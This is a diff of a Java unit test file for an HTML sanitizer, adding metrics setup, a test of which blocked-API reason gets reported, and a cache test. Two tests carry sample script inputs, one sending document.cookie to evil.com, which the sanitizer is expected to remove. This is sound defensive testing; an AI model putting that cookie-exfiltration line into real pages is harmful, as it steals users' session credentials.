@@ -1,6 +1,8 @@
 package io.mersel.services.xslt.infrastructure;
 
 import io.mersel.services.xslt.application.models.SanitizationResult;
+import io.mersel.services.xslt.infrastructure.diagnostics.XsltMetrics;
+import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.DisplayName;
 import org.junit.jupiter.api.Nested;
@@ -14,10 +16,13 @@ import static org.assertj.core.api.Assertions.assertThat;
 class HtmlSanitizerTest {
 
     private HtmlSanitizer sanitizer;
+    private SimpleMeterRegistry registry;
 
     @BeforeEach
     void setUp() {
-        sanitizer = new HtmlSanitizer();
+        registry = new SimpleMeterRegistry();
+        sanitizer = new HtmlSanitizer(new XsltMetrics(registry));
+        sanitizer.init();
     }
 
     // ── Boş / null girdi ──────────────────────────────────────────────
@@ -243,6 +248,19 @@ class HtmlSanitizerTest {
             assertThat(result.removalReasons()).anyMatch(r -> r.contains("fetch"));
         }
 
+        @Test
+        @DisplayName("Birden fazla engelli API içeren script'te neden liste sırasına göre seçilmeli")
+        void shouldReportFirstListedPatternWhenScriptHasSeveral() {
+            // fetch script'te önce geçse de listede document.cookie önce gelir
+            String script = "fetch('https://evil.com/?c=' + document.cookie);";
+            String html = "<html><body><script>" + script + "</script></body></html>";
+            SanitizationResult result = sanitizer.sanitize(html.getBytes(StandardCharsets.UTF_8));
+
+            assertThat(result.removedScriptCount()).isEqualTo(1);
+            assertThat(result.removalReasons()).anyMatch(r -> r.contains("cookie access"));
+            assertThat(result.removalReasons()).noneMatch(r -> r.contains("fetch"));
+        }
+
         @Test
         @DisplayName("XMLHttpRequest içeren script kaldırılmalı")
         void shouldRemoveXhrScript() {
@@ -413,6 +431,24 @@ class HtmlSanitizerTest {
 
             assertThat(hash1).isNotEqualTo(hash2);
         }
+
+        @Test
+        @DisplayName("Aynı script tekrar geldiğinde karar cache'ten dönmeli")
+        void shouldReuseScriptVerdictFromCache() {
+            String html = "<html><body><script>var qr = new QRCode('ABC');</script>"
+                    + "<script>fetch('https://evil.com');</script></body></html>";
+
+            SanitizationResult first = sanitizer.sanitize(html.getBytes(StandardCharsets.UTF_8));
+            SanitizationResult second = sanitizer.sanitize(html.getBytes(StandardCharsets.UTF_8));
+
+            assertThat(second.allowedScriptHashes()).isEqualTo(first.allowedScriptHashes())
+                    .containsExactly(HtmlSanitizer.computeSha256Base64("var qr = new QRCode('ABC');"));
+            assertThat(second.removalReasons()).isEqualTo(first.removalReasons());
+            assertThat(registry.get("xslt_script_verdict_cache_requests_total")
+                    .tag("result", "miss").functionCounter().count()).isEqualTo(2.0);
+            assertThat(registry.get("xslt_script_verdict_cache_requests_total")
+                    .tag("result", "hit").functionCounter().count()).isEqualTo(2.0);
+        }
     }
 
     // ── link tag temizliği ────────────────────────────────────────────